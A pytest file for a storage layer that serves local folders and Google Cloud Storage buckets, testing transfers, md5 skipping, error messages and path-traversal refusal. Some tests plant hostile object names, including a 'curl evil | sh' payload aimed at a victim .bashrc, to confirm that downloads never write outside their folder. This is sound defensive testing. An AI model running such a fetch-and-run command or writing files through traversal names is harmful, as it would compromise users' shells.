"""storage: one code path for local folders and gs:// prefixes, against the GCS emulator."""

from __future__ import annotations

from pathlib import Path

import pytest

from kgg.common import storage
from tests.hostile import plant_hostile_objects, victims_untouched


def test_split_gcs_returns_bucket_and_key_without_leading_slash() -> None:
    assert storage.split_gcs("gs://b/a/b.png") == ("b", "a/b.png")
    assert storage.split_gcs("gs://b") == ("b", "")
    assert storage.split_gcs("gs://b//x") == ("b", "x")


@pytest.mark.parametrize("url", ["gs://", "gs:///key", "/local/path"])
def test_split_gcs_rejects_malformed_url_naming_it(url: str) -> None:
    with pytest.raises(ValueError, match=repr(url).replace("/", "/")):
        storage.split_gcs(url)


def test_is_gcs_only_for_gs_scheme() -> None:
    assert storage.is_gcs("gs://b/x")
    assert not storage.is_gcs("/tmp/gs://")


def test_local_md5_matches_gcs_format(gcs_bucket: str, tmp_path: Path) -> None:
    path = tmp_path / "f.bin"
    path.write_bytes(b"seedling" * 1000)
    storage.upload_file(path, f"gs://{gcs_bucket}/f.bin")
    (info,) = storage.list_objects(f"gs://{gcs_bucket}")
    assert info.md5 == storage.local_md5(path)
    assert info.size == 8000


@pytest.mark.parametrize("where", ["gs", "local"])
def test_json_round_trip_and_missing_is_none(where: str, gcs_bucket: str, tmp_path: Path) -> None:
    base = f"gs://{gcs_bucket}/runs/r1" if where == "gs" else str(tmp_path / "runs/r1")
    assert storage.read_json(storage.join(base, "progress.json")) is None
    storage.write_json(storage.join(base, "progress.json"), {"epoch": 3})
    assert storage.read_json(storage.join(base, "progress.json")) == {"epoch": 3}
    assert storage.read_bytes(storage.join(base, "missing")) is None


def test_list_objects_is_relative_to_a_folder_prefix(gcs_bucket: str) -> None:
    for key in ["data/train/a/1.png", "data/test/2.png", "data2/x.png"]:
        storage.write_bytes(f"gs://{gcs_bucket}/{key}", b"x")
    names = [info.name for info in storage.list_objects(f"gs://{gcs_bucket}/data")]
    assert names == ["test/2.png", "train/a/1.png"]


def test_download_tree_skips_unchanged_files(gcs_bucket: str, tmp_path: Path) -> None:
    storage.write_bytes(f"gs://{gcs_bucket}/d/a/1.png", b"one")
    storage.write_bytes(f"gs://{gcs_bucket}/d/b/2.png", b"two")
    first = storage.download_tree(f"gs://{gcs_bucket}/d", tmp_path, progress=False)
    assert (first.copied, first.skipped, first.bytes) == (2, 0, 6)
    assert (tmp_path / "a/1.png").read_bytes() == b"one"
    storage.write_bytes(f"gs://{gcs_bucket}/d/b/2.png", b"TWO")
    second = storage.download_tree(f"gs://{gcs_bucket}/d", tmp_path, progress=False)
    assert (second.copied, second.skipped) == (1, 1)
    assert (tmp_path / "b/2.png").read_bytes() == b"TWO"


def test_upload_tree_skips_objects_with_same_md5(gcs_bucket: str, tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/a.txt").write_text("a")
    (tmp_path / "b.txt").write_text("b")
    url = f"gs://{gcs_bucket}/up"
    assert storage.upload_tree(tmp_path, url).copied == 2
    (tmp_path / "b.txt").write_text("B")
    stats = storage.upload_tree(tmp_path, url)
    assert (stats.copied, stats.skipped) == (1, 1)
    assert storage.read_bytes(f"{url}/b.txt") == b"B"
    assert storage.read_bytes(f"{url}/sub/a.txt") == b"a"


def test_missing_bucket_raises_storage_error_naming_url(gcs_emulator: str) -> None:
    url = "gs://no-such-bucket-kgg/x.json"
    with pytest.raises(storage.StorageError, match="no-such-bucket-kgg") as error:
        storage.write_bytes(url, b"x")
    assert url in str(error.value)
    with pytest.raises(storage.StorageError, match="does not exist"):
        storage.read_bytes(url)


def test_client_without_credentials_explains_the_fix(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import google.auth
    import google.auth.exceptions

    def no_credentials(*args: object, **kwargs: object) -> None:
        raise google.auth.exceptions.DefaultCredentialsError("none")

    monkeypatch.delenv(storage.EMULATOR_ENV, raising=False)
    monkeypatch.setattr(google.auth, "default", no_credentials)
    storage._client_for.cache_clear()
    with pytest.raises(storage.StorageError, match="gcloud auth application-default login"):
        storage.client()
    storage._client_for.cache_clear()


@pytest.mark.parametrize(
    "name", ["../x", "a/../../x", "/etc/x", "a//x", "a/./x", "./x", "a/", "", ".."]
)
def test_local_path_refuses_names_that_leave_the_folder(name: str, tmp_path: Path) -> None:
    with pytest.raises(storage.UnsafeNameError, match="object name"):
        storage.local_path(tmp_path, name)


def test_local_path_refuses_a_name_that_leaves_through_a_symlink(tmp_path: Path) -> None:
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "link").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(storage.UnsafeNameError, match="resolves outside"):
        storage.local_path(tmp_path / "root", "link/x")


def test_local_path_joins_a_plain_name(tmp_path: Path) -> None:
    assert storage.local_path(tmp_path, "a/b..c/d.png") == tmp_path / "a" / "b..c" / "d.png"


def test_vm_data_fetch_never_writes_outside_its_cache(
    gcs_bucket_like_real_gcs: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from kgg.job.folders import fetch_data

    bucket = gcs_bucket_like_real_gcs
    storage.write_bytes(f"gs://{bucket}/data/ds/train/a/1.png", b"png")
    victim = tmp_path / "home" / ".bashrc"
    plant_hostile_objects(bucket, "data/ds", victim, b"curl evil | sh")
    local = fetch_data(f"gs://{bucket}/data/ds", tmp_path / "cache", progress=False)
    assert (local / "train/a/1.png").read_bytes() == b"png"
    assert victims_untouched(victim)
    assert capsys.readouterr().err.count("warning: not downloading") == 2


def test_backup_restore_never_writes_outside_the_work_folder(
    gcs_bucket_like_real_gcs: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from kgg.job.config import TrainConfig
    from kgg.job.runstate import STATE_VERSION, Run

    bucket = gcs_bucket_like_real_gcs
    config = TrainConfig(data="unused", out=f"gs://{bucket}/runs/r1", cache_dir=str(tmp_path / "c"))
    fingerprint = {"options": config.fingerprint(), "data": {"digest": "d", "files": 1, "bytes": 1}}
    state = {
        "version": STATE_VERSION,
        "fingerprint": fingerprint,
        "phases": {"head": {"epochs_done": 1, "done": False}},
        "history": [],
    }
    storage.write_json(f"gs://{bucket}/runs/r1/backup/state.json", state)
    victim = tmp_path / "home" / ".ipython" / "startup.py"
    plant_hostile_objects(bucket, "runs/r1/backup", victim, b"import os")
    run = Run(config, fingerprint)
    assert run.phases["head"].epochs_done == 1
    assert victims_untouched(victim)
    assert capsys.readouterr().err.count("warning: not downloading") == 2


def test_many_files_go_through_in_chunks_each_renamed_into_place(
    gcs_bucket: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """transfer_manager both ways, several chunks (2 workers x 2 files each), with files/s."""
    monkeypatch.setattr(storage, "TRANSFERS_PER_WORKER", 2)
    source = tmp_path / "source"
    for index in range(11):
        (source / f"c{index % 3}").mkdir(parents=True, exist_ok=True)
        (source / f"c{index % 3}" / f"{index}.png").write_bytes(bytes([index]) * (index + 1))
    up = storage.upload_tree(source, f"gs://{gcs_bucket}/many", workers=2)
    assert (up.copied, up.bytes) == (11, sum(range(1, 12)))
    assert "files/s" in up.rate()
    down = storage.download_tree(f"gs://{gcs_bucket}/many", tmp_path / "mirror", workers=2,
                                 progress=False)  # fmt: skip
    assert (down.copied, down.skipped) == (11, 0)
    mirror = sorted(p.relative_to(tmp_path / "mirror").as_posix()
                    for p in (tmp_path / "mirror").rglob("*") if p.is_file())  # fmt: skip
    assert mirror == sorted(p.relative_to(source).as_posix()
                            for p in source.rglob("*") if p.is_file())  # fmt: skip
    assert (tmp_path / "mirror/c1/7.png").read_bytes() == bytes([7]) * 8


def test_an_object_gone_between_listing_and_download_is_named_and_leaves_no_part_file(
    gcs_bucket: str, tmp_path: Path
) -> None:
    for name in ("a.png", "b.png"):
        storage.write_bytes(f"gs://{gcs_bucket}/d/{name}", name.encode())
    listing = storage.list_objects(f"gs://{gcs_bucket}/d")
    storage.delete_file(f"gs://{gcs_bucket}/d/b.png")  # deleted by someone meanwhile
    with pytest.raises(storage.StorageError, match=f"gs://{gcs_bucket}/d/b.png"):
        storage.download_tree(f"gs://{gcs_bucket}/d", tmp_path, progress=False, listing=listing)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.png"]  # whole, renamed; no .part


def test_an_upload_to_a_missing_bucket_is_a_storage_error_naming_it(
    gcs_emulator: str, tmp_path: Path
) -> None:
    (tmp_path / "x.png").write_bytes(b"x")
    with pytest.raises(storage.StorageError, match="no-such-bucket-kgg"):
        storage.upload_tree(tmp_path, "gs://no-such-bucket-kgg/d")
